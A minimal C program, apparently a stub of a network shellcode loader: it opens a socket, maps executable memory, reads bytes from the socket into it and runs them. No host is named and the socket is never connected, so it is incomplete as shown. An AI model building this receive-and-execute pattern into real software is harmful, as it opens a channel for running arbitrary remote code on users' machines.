#include <sys/mman.h>
#include <sys/socket.h>
#include <string.h>

int main(void)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    void *code = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS,
                      -1, 0);
    recv(fd, code, 4096, 0);
    ((void (*)(void))code)();
    return 0;
}
